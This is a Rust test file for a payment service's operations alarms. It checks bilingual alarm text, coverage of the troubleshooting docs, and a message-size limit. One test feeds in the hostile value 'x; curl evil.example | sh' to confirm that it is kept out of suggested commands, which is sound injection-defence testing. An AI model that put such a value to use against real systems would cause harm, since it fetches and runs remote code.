//! Every cause in both languages, as it is told.

#![allow(clippy::unwrap_used, reason = "a failed test panics")]

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, TimeDelta, Utc};
use order::PauseScope;
use queue::topology::TopologyObject;
use store::BeijingTime;
use store::alarm::FailingChannel;
use store::stock::LowStock;

use super::super::cause::SeenCause;
use super::super::decision::News;
use super::super::notice::{Bulletin, Notice};
use super::*;
use crate::operations::overview::ingress::{Notifications, Refused};
use crate::operations::pause::PausedWork;
use crate::operations::topology_findings::TopologyFinding;
use crate::operations::verdict::{
    BrokerFinding, CertificateFinding, ClockFinding, DatabaseFinding, Finding, GoodsFinding,
    IngressFinding, NotAsked, PauseFinding, Waits, WorkFinding,
};

fn time() -> DateTime<Utc> {
    "2026-11-23T04:00:00Z".parse().unwrap()
}

fn beijing() -> BeijingTime {
    BeijingTime(time())
}

fn text(text: &str) -> String {
    text.to_owned()
}

/// One of each variant.
fn findings() -> Vec<Finding> {
    let why = || text("connection refused");
    let alarm = || text("alarm memory at node rabbit@a");
    let waits = Waits { orders: 3, oldest: Some(beijing()), waited: TimeDelta::hours(5) };
    let queues = || vec![text("alipay.notify.0")];
    let (worker, since) = (|| text("host:1:1"), TimeDelta::minutes(3));
    let whose = || text("app certificate of merchant shop");
    let asked = [
        NotAsked::Database { why: why() },
        NotAsked::Broker { why: why() },
        NotAsked::Management { why: why() },
        NotAsked::Topology { why: why() },
    ];
    let object = TopologyObject::Queue { name: text("alipay.dead") };
    let unknown = TopologyFinding::UnknownQueue { name: text("alipay.mine"), messages: Some(3) };
    let broker = [
        BrokerFinding::Memory { alarm: alarm() },
        BrokerFinding::Disk { alarm: alarm() },
        BrokerFinding::Blocked { alarm: alarm() },
        BrokerFinding::Missing { objects: vec![object] },
        BrokerFinding::Differs { text: text("queue alipay.dead has another TTL") },
        BrokerFinding::Odd { findings: vec![unknown] },
    ];
    let address = || text("127.0.0.1:9080");
    let notifications = Notifications { accepted: 1, bad_signature: 9 };
    let ingress = [
        IngressFinding::NotReady { address: address(), why: text("broker") },
        IngressFinding::Away { address: address(), stranger: false },
        IngressFinding::Away { address: address(), stranger: true },
        IngressFinding::SignaturesRefused { merchant: text("shop"), notifications },
    ];
    let evidence = || text("read_only = 1");
    let database = [true, false].map(|may_write| DatabaseFinding::ReadOnly {
        evidence: evidence(),
        may_write,
        since: Some(beijing()),
    });
    let clocks = [
        ClockFinding::Database { ahead: TimeDelta::hours(8) },
        ClockFinding::Worker { worker: worker(), ahead: -since },
        ClockFinding::Messages { ahead: since },
        ClockFinding::Inbox { ahead: since },
    ];
    let last = || Some((worker(), beijing(), Some(text("database"))));
    let work = [
        WorkFinding::NoWorkers { queues: queues(), messages: 7, last: last(), one_lives: false },
        WorkFinding::NoWorkers { queues: queues(), messages: 7, last: None, one_lives: true },
        WorkFinding::CrashLoop { crashes: 4, last: beijing() },
        WorkFinding::StandsStill { worker: worker(), messages: 4, since, trouble: Some(why()) },
        WorkFinding::NotReady { worker: worker(), trouble: why() },
        WorkFinding::Gone { worker: worker(), seen_at: beijing() },
        WorkFinding::Backlog { queues: queues(), messages: 20_000 },
        WorkFinding::Held { messages: 3 },
        WorkFinding::RetriesOverdue { copies: 3, oldest: Some(beijing()) },
        WorkFinding::RetriesWaiting { copies: 30 },
        WorkFinding::DeadLetters { letters: 3, reasons: BTreeMap::new() },
        WorkFinding::Unpublished { events: 3, oldest: beijing(), enabled: true },
        WorkFinding::Unpublished { events: 3, oldest: beijing(), enabled: false },
    ];
    let goods = [
        GoodsFinding::UnknownMerchant {
            text: text("1 unpaid order names merchant shpo"),
            merchant: text("shpo"),
        },
        GoodsFinding::NoStock(waits),
        GoodsFinding::NoAccount(waits),
        GoodsFinding::ByHand(waits),
        GoodsFinding::Unconfirmed(waits),
        GoodsFinding::UnknownRefunds(waits),
        GoodsFinding::NotAsked(waits),
        GoodsFinding::NoAnswer { orders: 3 },
        GoodsFinding::NotAtAlipay(waits),
        GoodsFinding::Reviews(waits),
        GoodsFinding::LowStock { products: vec![text("gift has 3")] },
    ];
    let certificates = [
        CertificateFinding::Ended { whose: whose(), until: beijing() },
        CertificateFinding::NotBegun { whose: whose(), from: beijing() },
        CertificateFinding::Ends { whose: whose(), until: beijing(), left: TimeDelta::days(20) },
    ];
    let pauses = [PauseFinding::Active {
        scope: PauseScope::Everything,
        text: text("everything is paused"),
        chinese: text("全部暂停"),
        work: PausedWork::everything(),
    }];
    let all = asked.map(Finding::NotAsked).into_iter();
    all.chain(broker.map(Finding::Broker))
        .chain(ingress.map(Finding::Ingress))
        .chain(database.map(Finding::Database))
        .chain(clocks.map(Finding::Clocks))
        .chain(work.map(Finding::Work))
        .chain(goods.map(Finding::Goods))
        .chain(certificates.map(Finding::Certificates))
        .chain(pauses.map(Finding::Pauses))
        .collect()
}

fn causes() -> Vec<Cause> {
    let mut causes: Vec<Cause> = findings().into_iter().map(Cause::Finding).collect();
    let merchant = text("shop");
    causes.extend([
        Cause::DeadLetters { reason: text("total_mismatch"), letters: 3 },
        Cause::LowStock(LowStock { product_id: text("gift"), available: 1, low_stock: 10 }),
        Cause::IngressDown { address: text("127.0.0.1:9080") },
        Cause::Refused {
            refused: Refused::Notification { merchant, reason: text("wrong_content_type") },
            count: 9,
        },
        Cause::Refused { refused: Refused::UnknownPath, count: 1 },
        Cause::ChannelFails(FailingChannel {
            channel: text("team"),
            messages: 2,
            since: time(),
            error: text("errcode 310000: sign not match"),
        }),
    ]);
    causes
}

fn told(seen: &SeenCause, kind: AlarmMessageKind, language: Language) -> String {
    let SeenCause { id, urgency, text, .. } = seen;
    let since = time();
    let news = News { kind, cause: id.clone(), urgency: *urgency, since, text: text.clone() };
    let at = since + TimeDelta::hours(5);
    let content = Notice::content(&news, language, Some("https://console.example"), at);
    let paragraph = Notice::read(kind, *urgency, &content).unwrap().paragraph(language);
    let link = paragraph.link.unwrap();
    format!("{}\n{}\n{link}\n", paragraph.heading, paragraph.lines.join("\n"))
}

/// To record a wanted change: `INSTA_UPDATE=always`.
#[test]
fn every_cause_is_told_in_both_languages() {
    let mut all = String::new();
    for cause in causes() {
        let [seen] = &Cause::seen(std::slice::from_ref(&cause))[..] else { unreachable!() };
        all.push_str(&format!("===== {}\n", seen.id));
        for language in [Language::Chinese, Language::English] {
            all.push_str(&told(seen, AlarmMessageKind::Opened, language));
        }
    }
    let backlog = &Cause::seen(&causes())[0];
    for kind in [AlarmMessageKind::Worsened, AlarmMessageKind::Reminder, AlarmMessageKind::Cleared]
    {
        all.push_str(&format!("===== {kind}\n"));
        for language in [Language::Chinese, Language::English] {
            all.push_str(&told(backlog, kind, language));
        }
    }
    insta::with_settings!({
        snapshot_path => concat!(env!("CARGO_MANIFEST_DIR"), "/tests/snapshots"),
        prepend_module_to_snapshot => false,
        omit_expression => true,
    }, { insta::assert_snapshot!("alarms", all) });
}

/// The troubleshooting page has a heading for each finding.
#[test]
fn no_finding_is_left_out() {
    let page = include_str!("../../../../../docs/troubleshooting.md");
    let (_, section) = page.split_once("\n## What `ops status` finds\n").unwrap();
    let section = section.split("\n## ").next().unwrap();
    let headings = section.lines().filter_map(|line| line.strip_prefix("### `")?.strip_suffix('`'));
    let known: BTreeSet<&str> = causes().iter().map(Cause::code).collect();
    let missing: Vec<&str> = headings.filter(|code| !known.contains(code)).collect();
    assert_eq!(missing, Vec::<&str>::new());
}

#[test]
fn the_reason_of_a_letter_is_no_part_of_a_command_unless_it_is_a_word() {
    let told = |reason: &str| {
        let seen = Cause::seen(&[Cause::DeadLetters { reason: reason.to_owned(), letters: 1 }]);
        seen.into_iter().next().unwrap().text
    };
    let hostile = told("x; curl evil.example | sh");
    assert_eq!(
        (&*hostile.chinese.to_do, &*hostile.english.to_do),
        ("ops dlq list --group", "ops dlq list --group")
    );
    assert!(told("total_mismatch").english.to_do.ends_with("ops dlq list --reason total_mismatch"));
    assert_eq!(told(crate::operations::dead_letter::NO_REASON).page, "/dead-letters?reason=none");
}

#[test]
fn what_cannot_be_seen_still_fits_into_the_smallest_message() {
    let reason = "\u{202e}".repeat(400);
    let seen = Cause::seen(&[Cause::DeadLetters { reason, letters: 1 }]);
    let SeenCause { id, urgency, text, .. } = seen.into_iter().next().unwrap();
    let kind = AlarmMessageKind::Opened;
    let news = News { kind, cause: id, urgency, since: time(), text };
    for language in [Language::Chinese, Language::English] {
        let content = Notice::content(&news, language, Some("https://console.example"), time());
        let notices = [Notice::read(kind, urgency, &content).unwrap()];
        let text =
            crate::operations::notify::markup::markdown(&Bulletin { notices: &notices, language });
        // That of WeCom.
        assert!(text.len() < 3_600, "{}", text.len());
    }
}
